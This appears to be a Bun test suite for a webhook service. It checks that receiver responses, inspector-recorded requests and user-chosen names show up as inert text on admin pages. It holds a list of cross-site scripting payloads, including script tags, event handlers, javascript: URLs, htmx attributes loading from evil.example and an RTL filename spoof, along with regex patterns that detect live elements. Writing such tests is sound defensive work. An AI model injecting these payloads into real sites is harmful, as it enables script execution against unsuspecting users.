import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { createServer } from '../../../src/server.ts';
import { type Person, signIn } from '../../support/people.ts';
import { createWebhookTest, type WebhookTest } from '../support/webhook-test.ts';

/** What receivers answer and what strangers send to an inspector is theirs to choose, down to the byte. */
const payloads = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover=alert(1) x='",
  'javascript:alert(1)',
  '<a hx-get=//evil.example hx-trigger=load>x</a>',
  '" hx-get="//evil.example" hx-trigger="load',
  '{{7*7}}',
  '</textarea></pre></code><script>alert(2)</script>',
  '<svg/onload=alert(1)>',
  '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
  '\u202Egnp.exe',
  'line\u2028alert(1)',
] as const;

let world: WebhookTest;
let owner: Person;

beforeAll(async () => {
  world = await createWebhookTest();
  owner = await signIn(world);
});
afterAll(() => world.close());

interface Found {
  readonly tag: string;
  readonly attributes: readonly (readonly string[])[];
}

/** Every element of a page with its attributes, as a parser makes them; text is in neither. */
const elementsOf = async (html: string): Promise<Found[]> => {
  const found: Found[] = [];
  const rewriter = new HTMLRewriter().on('*', {
    element: ({ tagName, attributes }) => {
      found.push({ tag: tagName, attributes: [...attributes] });
    },
  });
  await rewriter.transform(new Response(html)).text();
  return found;
};

const codeTags = /^(img|iframe|object|embed|base|style|foreignobject)$/i;
const urlNames = /^(href|src|action|formaction|(data-)?hx-.*)$/i;

const isLive = ({ tag, attributes }: Found): boolean => {
  const source = attributes.find(([name]) => name === 'src')?.[1] ?? '';
  if (codeTags.test(tag) || (tag === 'script' && !source.startsWith('/assets/'))) return true;
  return attributes.some(
    ([name = '', value = '']) =>
      /^on/i.test(name) || (urlNames.test(name) && /^\s*(javascript:|data:|\/\/)/i.test(value)),
  );
};

/** What would run: scripts that are not ours, handlers, foreign htmx, schemes that are code. */
const liveOf = async (html: string): Promise<Found[]> => (await elementsOf(html)).filter(isLive);

const htmlOf = async (answer: Promise<Response>): Promise<string> => (await answer).text();

/** The page is what it is without the payload: no more elements, none of them live. */
const expectInert = async (html: string, harmless: string): Promise<void> => {
  expect(await liveOf(html)).toEqual([]);
  expect((await elementsOf(html)).length).toBe((await elementsOf(harmless)).length);
};

test('the check itself notices what would run', async () => {
  for (const payload of [
    '<script>x</script>',
    '<p onclick="x">',
    '<a hx-get="//evil.example">',
    '<img src=x>',
  ]) {
    expect(await liveOf(payload)).not.toEqual([]);
  }
});

describe('what a receiver answers stays text', () => {
  const answered = async (text: string): Promise<{ test: string; delivery: string }> => {
    const { id } = await world.subscribe();
    world.receiver.answer(() => new Response(text, { status: 400 }));
    const shown = await htmlOf(owner.post(`/admin/webhooks/${id}/test`, { event_type: 'commission.due' }));
    const delivery = /\/admin\/deliveries\/whd_\w+/.exec(shown)?.[0] ?? '';
    return { test: shown, delivery: await htmlOf(owner.get(delivery)) };
  };

  test.each([...payloads])('%j', async (payload) => {
    const harmless = await answered('harmless');
    const hostile = await answered(payload);
    await expectInert(hostile.test, harmless.test);
    await expectInert(hostile.delivery, harmless.delivery);
  });
});

describe('what an inspector recorded stays text', () => {
  /** A request whose path, header and body are all the stranger's. */
  const recorded = async (text: string): Promise<{ list: string; detail: string }> => {
    const { body } = await world.call('POST', '/api/v1/inspectors', { body: { name: 'Trial' } });
    const request = new Request(`${body.url}/${encodeURIComponent(text)}?q=${encodeURIComponent(text)}`, {
      method: 'POST',
      headers: { 'x-shop': headerOf(text), 'webhook-id': headerOf(text) },
      body: JSON.stringify({ type: text, id: text, data: text }),
    });
    await createServer(world.app).handle(request);
    const list = await htmlOf(owner.get(`/admin/inspectors/${body.id}`));
    const path = /\/admin\/inspectors\/\w+\/requests\/req_\w+/.exec(list)?.[0] ?? '';
    return { list, detail: await htmlOf(owner.get(path)) };
  };

  const headerOf = (text: string): string => text.replace(/[^\x20-\x7e]/g, '');

  test.each([...payloads])('%j', async (payload) => {
    const harmless = await recorded('harmless');
    const hostile = await recorded(payload);
    await expectInert(hostile.list, harmless.list);
    await expectInert(hostile.detail, harmless.detail);
  });
});

describe('names that people chose stay text where others read them', () => {
  const pagesOf = async (name: string): Promise<string[]> => {
    const { id } = await world.subscribe({ name, description: name });
    const { body } = await world.call('POST', '/api/v1/inspectors', { body: { name, endpoint_id: id } });
    const paths = ['', '/settings', '/secret', '/deletion', '/deliveries'].map(
      (part) => `/admin/webhooks/${id}${part}`,
    );
    const pages = await Promise.all(
      [...paths, `/admin/inspectors/${body.id}`].map((path) => htmlOf(owner.get(path))),
    );
    await world.call('DELETE', `/api/v1/inspectors/${body.id}`);
    await world.call('DELETE', `/api/v1/webhook-endpoints/${id}`);
    return pages;
  };

  // Line separators are refused in names.
  test.each(payloads.filter((payload) => !payload.includes('\u2028')))('%j', async (payload) => {
    const harmless = await pagesOf('harmless');
    for (const [at, html] of (await pagesOf(payload)).entries()) await expectInert(html, harmless[at] ?? '');
  });
});
